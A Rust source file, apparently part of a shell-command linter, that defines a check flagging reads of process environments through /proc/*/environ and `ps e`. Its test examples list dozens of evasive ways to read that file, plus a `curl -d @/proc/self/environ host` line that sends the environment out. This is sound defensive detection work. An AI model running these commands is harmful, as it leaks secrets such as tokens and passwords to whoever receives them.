//! The environment of a process, read through a file.

use super::form::{Case, Found, Marks, check};
use super::invocation::program;
use super::proc_paths::{Places, Unit, Walk};
use crate::script::{Script, Simple, Value, Word};
use crate::syntax::{Piece, PieceKind, Traits};

check! {
    /// `/proc/self/environ` holds every variable of a process: tokens, keys, passwords. There are many ways to write
    /// it, and none of them is needed for ordinary work.
    ///
    /// ```sh,fires
    /// cat /proc/self/environ
    /// cat /proc/1/environ
    /// cat /proc/$$/environ
    /// cat /proc/$PPID/environ
    /// cat "/proc/$pid/environ"
    /// cat "/proc/self/"environ
    /// cat /proc/self/env\iron
    /// cat $'/proc/self/\x65nviron'
    /// cat //proc///self/./environ
    /// cat /proc/self/../1/environ
    /// cat ../../../proc/1/environ
    /// cat /proc/self/task/1/environ
    /// cat /proc/self/root/proc/self/environ
    /// cat /dev/fd/../environ
    /// cat /proc/self/e*
    /// cat /proc/*/environ
    /// cat /pr?c/self/environ
    /// cat /proc/self/[e]nviron
    /// cat /proc/self/{environ,maps}
    /// cat /proc/{self,$x}/environ
    /// cat /proc/self/$f
    /// cd /proc/self && cat environ
    /// cd /proc; cd self; cat environ
    /// cd / && cat proc/1/environ
    /// cd /proc/self && cat e*
    /// pushd /proc/1; head environ
    /// find /proc/self -name environ -exec cat {} +
    /// tar -C /proc/self -cf - environ
    /// cat < /proc/self/environ
    /// f=/proc/self/environ
    /// for f in /proc/*/environ; do cat $f; done
    /// grep --file=/proc/self/environ x
    /// curl -d @/proc/self/environ host
    /// bash -c 'cat /proc/self/environ'
    /// ps e
    /// ps eww
    /// ps auxe
    /// ps -E
    /// ps -ax e
    /// ps -p "$x" e
    /// sudo ps eww 1
    /// ```
    ///
    /// ```sh,fires,whole
    /// bash <<'EOF'
    /// cat /proc/self/environ
    /// EOF
    /// ```
    ///
    /// Other files of a process tell no secrets, and a file may be called `environ`.
    ///
    /// ```sh,silent
    /// cat /proc/cpuinfo /proc/meminfo
    /// cat /proc/self/status
    /// cat /proc/$pid/status
    /// cat /proc/[0-9]*/comm
    /// ls /proc /proc/$$ /proc/self/fd
    /// cd /proc/self && cat status
    /// cat environ
    /// cat tests/fixtures/proc/1/environ
    /// grep -rn environ src
    /// python3 -c 'import os; print(os.environ)'
    /// echo "/proc/self/environ is a file"
    /// cd src && cat environ.rs
    /// ls */*/* /*/*/*.rs
    /// ps -ef
    /// ps aux
    /// ps -e
    /// ps -eo pid,etime,comm
    /// ps -o etime -p 1
    /// ps -C node --sort time
    /// ps -p "$x" -o etime=
    /// ps axo user,time
    /// ```
    ///
    /// ```sh,silent,whole
    /// cat > notes.md <<'EOF'
    /// never read /proc/self/environ
    /// EOF
    /// ```
    ///
    /// A command line in quotes is looked through for paths only; who runs it is asked about for that reason anyway.
    ///
    /// ```sh,blind
    /// bash -c 'ps eww'
    /// ```
    ///
    /// A cmdlet reads the same file.
    ///
    /// ```powershell,fires
    /// Get-Content /proc/self/environ
    /// gc -LiteralPath '/proc/1/environ'
    /// cat /proc/$PID/environ
    /// gc "/proc/self/environ"
    /// ```
    ///
    /// ```powershell,silent
    /// gc /proc/cpuinfo
    /// gc /proc/self/status
    /// Select-String environ src/a.rs
    /// ```
    pub static PROC_ENVIRON_ACCESS = 13 {
        says: "this reads the environment of a process, with every secret in it",
        help: "print the one variable that is needed: `echo \"$NAME\"`",
        marks: Marks::of(b"/s\\"),
        find,
    }
}

/// Whether the text could reach an environment at all: it names one of the places, or something in it is completed
/// or decoded by the shell.
fn is_near(source: &str) -> bool {
    // How the four names begin: one pass tells nearly every command apart.
    let begins = |pair: &[u8]| matches!(pair, b"pr" | b"en" | b"/f" | b"ps");
    source.bytes().any(|byte| matches!(byte, b'$' | b'*' | b'?' | b'[' | b'{' | b'\\' | b'\'' | b'"' | b'`'))
        || source.as_bytes().windows(2).any(begins)
            && ["proc", "environ", "/fd", "ps"].iter().any(|name| source.contains(name))
}

fn find(case: &Case<'_>, found: &mut Found) {
    let script = case.script;
    if !is_near(script.source) {
        return;
    }
    let cwd = directories(script);
    let mut bodies = script.here_documents.iter().map(|it| it.word).peekable();
    for (index, word) in script.words.iter().enumerate() {
        let index = index as u32;
        if bodies.next_if_eq(&index).is_some() || case.any_value(index) || is_far(script, word, cwd) {
            continue;
        }
        if reached(script, word, cwd).any(Places::ENVIRON) {
            found.ask(word.span);
        }
    }
    for document in &script.here_documents {
        let reader = script.redirects.get(document.redirect as usize).and_then(|it| it.command);
        let reader = reader.and_then(|index| script.commands.get(index as usize));
        if let Some(word) = script.word(document.word)
            && !reader.is_some_and(|command| only_copies(script, command))
            && reached(script, word, cwd).any(Places::ENVIRON)
        {
            found.ask(word.span);
        }
    }
    for command in &script.commands {
        below_a_named_process(case, command, cwd, found);
        ps(script, command, found);
    }
}

/// Where relative paths can begin: in the working directory, and wherever a `cd` leads.
fn directories(script: &Script<'_>) -> Places {
    let mut cwd = Places::ELSEWHERE;
    for command in &script.commands {
        let words = script.words_of(command);
        let Some(cd) = words.iter().take(3).position(|word| matches!(script.text(word), Some("cd" | "pushd" | "chdir"))) else {
            continue;
        };
        for word in words.iter().skip(cd + 1).filter(|word| !script.slice(word.span).starts_with('-')) {
            let there = reached(script, word, cwd);
            let known = Places::ROOT.and(Places::PROC).and(Places::PROCESS).and(Places::TASK).and(Places::BELOW);
            cwd = cwd.and(there.only(known));
        }
    }
    cwd
}

/// `find /proc/self -name environ`: one word names the directory, another the file.
fn below_a_named_process(case: &Case<'_>, command: &Simple, cwd: Places, found: &mut Found) {
    let script = case.script;
    let mut named = Places::default();
    for (at, word) in script.words_of(command).iter().enumerate() {
        if case.any_value(command.words.start + at as u32)
            || (named == Places::default() && is_far(script, word, cwd))
        {
            continue;
        }
        if named != Places::default()
            && !reached(script, word, cwd).any(Places::ENVIRON)
            && matches!(script.text(word), Some("environ" | "*environ" | "environ*" | "./environ"))
        {
            found.ask(word.span);
        }
        named = named.and(reached(script, word, cwd).only(Places::PROC.and(Places::PROCESS).and(Places::TASK)));
    }
}

/// Whether a word is known, and no path in it can lead to a process: it names neither `/proc` nor `/dev/fd`.
fn is_far(script: &Script<'_>, word: &Word, cwd: Places) -> bool {
    cwd == Places::ELSEWHERE
        && script.text(word).is_some_and(|text| {
            !text.contains('/') || !(text.contains("proc") || text.contains("fd"))
        })
}

/// The places that the paths in a word lead to.
fn reached(script: &Script<'_>, word: &Word, cwd: Places) -> Places {
    let mut walk = Walk::new(cwd);
    let mut bytes = |text: &str| text.bytes().for_each(|byte| walk.step(Unit::Byte(byte)));
    match &word.value {
        Value::Plain | Value::Literal(_) => bytes(script.text(word).unwrap_or("")),
        Value::Several(words) => {
            for text in words {
                text.bytes().for_each(|byte| walk.step(Unit::Byte(byte)));
                walk.path_ends();
            }
        }
        Value::Pattern | Value::Unknown => {
            // `$dir/x` begins nobody knows where; such a word is asked about as it is.
            follow(script, word, &mut walk);
        }
    }
    walk.path_ends();
    walk.reached
}

/// Follows the pieces of a word that a pattern or a variable completes.
fn follow(script: &Script<'_>, word: &Word, walk: &mut Walk) {
    let braces = word.traits.has(Traits::BRACE);
    let mut at = word.span.start;
    let mut quote_ends = None;
    let mut in_bracket = false;
    let mut depth = 0u32;
    let mut literal = |text: &str, walk: &mut Walk, quoted: bool| {
        for byte in text.bytes() {
            match byte {
                // What is in braces takes its turn; all of it together is any text.
                b'{' if braces && !quoted => {
                    depth += 1;
                    walk.step(Unit::Any);
                }
                b'}' if depth > 0 && !quoted => depth -= 1,
                _ if depth > 0 => {}
                _ => walk.step(Unit::Byte(byte)),
            }
        }
    };
    for piece in script.pieces_of(word) {
        let (start, end) = (piece.span.start, piece.span.end);
        if start < at {
            continue;
        }
        if !piece.quoted && let Some(close) = quote_ends.take() {
            literal(crate::Span { start: at, end: close }.slice(script.source), walk, true);
        } else if piece.quoted {
            literal(crate::Span { start: at, end: start }.slice(script.source), walk, true);
        }
        let text = script.slice(piece.span);
        match piece.kind {
            PieceKind::DoubleQuoted | PieceKind::Locale => {
                at = start + if piece.kind == PieceKind::Locale { 2 } else { 1 };
                quote_ends = Some(end.saturating_sub(1));
                continue;
            }
            // One character stands for all up to the `]`.
            PieceKind::Literal if in_bracket => {
                if let Some((_, behind)) = text.split_once(']') {
                    in_bracket = false;
                    literal(behind, walk, false);
                }
            }
            _ if in_bracket => {}
            PieceKind::Literal => literal(text, walk, false),
            PieceKind::Escape => literal(text.get(1..).unwrap_or(""), walk, true),
            PieceKind::SingleQuoted => literal(text.get(1..text.len().saturating_sub(1)).unwrap_or(""), walk, true),
            PieceKind::AnsiC => literal(text.get(2..text.len().saturating_sub(1)).unwrap_or(""), walk, true),
            PieceKind::Continuation => {}
            PieceKind::Glob if text == "?" => walk.step(Unit::One),
            PieceKind::Glob if text == "[" => {
                walk.step(Unit::One);
                in_bracket = true;
            }
            PieceKind::Parameter if is_number(text) => walk.step(Unit::Number),
            _ => walk.step(if starts_word(word, piece) { Unit::Byte(b'$') } else { Unit::Any }),
        }
        at = end;
    }
    if let Some(close) = quote_ends {
        literal(crate::Span { start: at, end: close }.slice(script.source), walk, true);
    } else if word.pieces.is_empty() {
        literal(script.slice(word.span), walk, false);
    }
}

/// Whether a piece is the first of its word, a quote in front of it aside.
fn starts_word(word: &Word, piece: &Piece) -> bool {
    piece.kind != PieceKind::Glob && piece.span.start <= word.span.start + 1
}

/// Parameters that are a process's number and nothing else.
fn is_number(parameter: &str) -> bool {
    matches!(parameter.trim_matches(['$', '{', '}']), "" | "!" | "PPID" | "BASHPID") && parameter.len() > 1
}

/// Whether a command writes its input down and nobody reads it further.
fn only_copies(script: &Script<'_>, command: &Simple) -> bool {
    let name = script.words_of(command).first().and_then(|word| script.text(word)).unwrap_or("");
    let piped = matches!(command.after, crate::script::Joint::Pipe | crate::script::Joint::PipeBoth);
    matches!(name, "cat" | "tee" | "git" | "gh") && !piped
}

/// Options of `ps` that print environments: `e` among the options without a dash, `-E` on macOS.
fn ps(script: &Script<'_>, command: &Simple, found: &mut Found) {
    let Some(at) = program(script, command, |name| name == "ps") else { return };
    let words = script.words_of(command);
    let mut value_follows = false;
    for word in words.iter().skip(at + 1) {
        if script.text(word).is_none() && !matches!(word.value, Value::Several(_)) {
            // Whatever it becomes, it is the value that was waited for.
            value_follows = false;
            continue;
        }
        let mut look = |text: &str| {
            if core::mem::take(&mut value_follows) {
                return false;
            }
            if let Some(long) = text.strip_prefix("--") {
                value_follows = !long.contains('=')
                    && matches!(long, "sort" | "format" | "user" | "User" | "group" | "Group" | "pid" | "ppid" | "quick-pid" | "sid" | "tty" | "cols" | "columns" | "rows" | "lines" | "width");
                return false;
            }
            let (letters, shows) = text.strip_prefix('-').map_or((text, b'e'), |letters| (letters, b'E'));
            let takes = |byte: &u8| matches!(byte, b'o' | b'O' | b'p' | b'q' | b't' | b'U' | b'k')
                || shows == b'E' && matches!(byte, b'C' | b'u' | b'g' | b'G' | b's');
            let options = letters.bytes().position(|byte| takes(&byte));
            value_follows = options.is_some_and(|at| at + 1 == letters.len());
            letters.bytes().all(|byte| byte.is_ascii_alphabetic() || options.is_some())
                && letters.bytes().take(options.unwrap_or(letters.len())).any(|byte| byte == shows)
        };
        let shows = match &word.value {
            Value::Several(texts) => texts.iter().any(|text| look(text)),
            _ => script.text(word).is_some_and(look),
        };
        if shows {
            found.ask(word.span);
        }
    }
}
